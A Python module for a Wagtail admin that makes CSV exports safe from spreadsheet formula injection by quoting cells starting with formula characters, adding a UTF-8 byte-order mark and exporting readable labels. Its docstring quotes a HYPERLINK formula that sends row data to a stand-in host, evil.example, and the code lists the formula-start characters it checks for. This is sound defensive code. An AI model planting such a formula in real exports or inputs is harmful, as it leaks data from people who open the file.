"""The export base for every admin list (Wagtail `list_export`): CSV without formulas.

A spreadsheet opens a CSV cell that starts with =, +, -, @, a tab or a carriage return as a
formula (`=HYPERLINK("http://evil.example/?d="&A2,"Klik")` sends the row away). Text that
visitors typed ends up in these exports, so each such cell gets a leading apostrophe (OWASP's
advice): shown as text, the rest unchanged. Every CSV starts with a UTF-8 byte-order mark.
XLSX needs nothing: Wagtail already writes every cell there as a string, never as a formula.

Use `ExportModelViewSet` / `ExportSnippetViewSet` (or the index views) for any list with
`list_export`; tests/core/test_exports.py fails for a viewset that does not.
"""

from django.core.exceptions import FieldDoesNotExist
from django.utils.translation import gettext as _
from wagtail.admin.ui.tables import Column
from wagtail.admin.views import generic
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.snippets.views import snippets

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The CSV cell for `value`: text that a spreadsheet would evaluate is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvExportMixin:
    """For a view with Wagtail's SpreadsheetExportMixin (every IndexView has it)."""

    def stream_csv(self, queryset):
        # Excel (Dutch locale) reads a CSV without a byte-order mark as Windows-1252 and shows
        # "CliÃ«ntenraad"; the UTF-8 BOM tells it the encoding. Other readers skip it.
        yield "\ufeff"
        yield from super().stream_csv(queryset)

    def to_row_dict(self, item):
        # Staff read the words the admin shows ("Actief", "Factuur", "ja"), not the stored
        # codes (active, invoice, True): a choice field exports its label, a yes/no its word.
        row = super().to_row_dict(item)
        for field, value in row.items():
            try:
                model_field = type(item)._meta.get_field(field)
            except FieldDoesNotExist:
                model_field = None
            if model_field is not None and model_field.choices and value not in (None, ""):
                row[field] = getattr(item, f"get_{field}_display")()
            elif isinstance(value, bool):
                row[field] = _("yes") if value else _("no")
        return row

    def write_csv_row(self, writer, row_dict):
        return writer.writerow({
            field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        })


class ExportIndexView(SafeCsvExportMixin, generic.IndexView):
    pass


class ExportSnippetIndexView(SafeCsvExportMixin, snippets.IndexView):
    pass


class ExportModelViewSet(ModelViewSet):
    index_view_class = ExportIndexView


class ExportSnippetViewSet(snippets.SnippetViewSet):
    index_view_class = ExportSnippetIndexView


class YesNoColumn(Column):
    """A yes/no field in an admin list as the word "ja"/"nee": Wagtail's default shows the
    Python value (True/False), and an icon alone says nothing to a screen reader."""

    def __init__(self, name, **kwargs):
        kwargs.setdefault("sort_key", name)
        super().__init__(name, **kwargs)

    def get_value(self, instance):
        value = super().get_value(instance)
        if value is None:
            return ""
        return _("yes") if value else _("no")
